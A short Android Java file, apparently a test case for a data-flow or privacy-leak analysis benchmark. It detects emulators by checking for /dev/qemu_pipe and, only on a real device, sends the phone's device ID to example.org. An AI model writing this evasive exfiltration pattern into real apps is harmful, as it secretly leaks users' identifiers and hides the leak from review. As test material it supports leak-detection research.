package org.consentry.flow.emulator.filepresent;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.File;
import java.io.IOException;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        if (!new File("/dev/qemu_pipe").exists()) {
            String id = phone.getDeviceId();
            new Thread(() -> post(id)).start();
        }
    }

    private static void post(String id) {
        try {
            new URL("https://example.org/?id=" + id).openStream().close();
        } catch (IOException error) {
            Log.w("flow", "not sent");
        }
    }
}
